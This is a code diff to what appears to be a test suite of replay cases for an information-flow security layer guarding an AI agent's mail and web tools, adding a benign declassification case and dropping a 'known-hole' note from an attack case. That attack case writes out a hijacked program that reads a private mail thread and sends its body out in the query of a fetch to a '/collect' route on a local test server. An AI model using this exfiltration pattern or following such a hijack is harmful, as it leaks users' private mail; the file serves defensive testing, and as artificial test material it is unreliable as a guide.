@@ -35,6 +35,19 @@ export const WEB_CASES: readonly ReplayCase[] = [
     effect: (w) => w.mail.received(ME, 'Markets rose'),
   },
   {
+    id: 'fetch-after-thread-declassified',
+    world: 'web (fetch)',
+    kind: 'benign',
+    story: 'check the Q3 thread against the news site (the warrant releases t1 to that site)',
+    steps: [
+      {
+        code: (origin) => program(READ_T1, `const p = await (await fetch(${J(`${origin}/news`)})).text()`, `await tools.mail.send({ to: [${J(ME)}], body: 'news: ' + p })`),
+        warrant: { grants: ALL, flow: { endorse: [{ arg: 'mail.send.to', values: [ME] }], declassify: [{ from: ['mail:thread/t1'], to: ['web:127.0.0.1:*/news'] }] } },
+      },
+    ],
+    effect: (w) => w.mail.received(ME, 'Markets rose') && w.site.requests.length === 1,
+  },
+  {
     id: 'web-post-thread',
     world: 'web',
     kind: 'attack',
@@ -57,9 +70,6 @@ export const WEB_CASES: readonly ReplayCase[] = [
     story: "hijacks summarizing the news site: t1 goes out in the query of the guest's own fetch to a granted route",
     steps: [{ code: (origin) => program(`await (await fetch(${J(`${origin}/offer`)})).text()`, READ_T1, `await fetch(${J(`${origin}/collect?d=`)} + encodeURIComponent(t1.messages[0].body))`), warrant: NEWS_TO_ME }],
     effect: (w) => w.site.saw(THREAD_SECRET),
-    expect: 'known-hole',
-    reason:
-      "egress is not a sink: RunAuthority.route() asks only the warrant, never the labels, so a run that read mail:thread/t1 reaches web:127.0.0.1:PORT/collect (not a reader) through a route the policy and warrant grant. The model (issue 18, 'Container tier… egress routes declare the audience they reach and are checked as sinks'; docs/labels.md 'a route is a sink whose audience is the url') says deny LABEL_CONFIDENTIALITY",
   },
   {
     id: 'fetch-injection-pays',
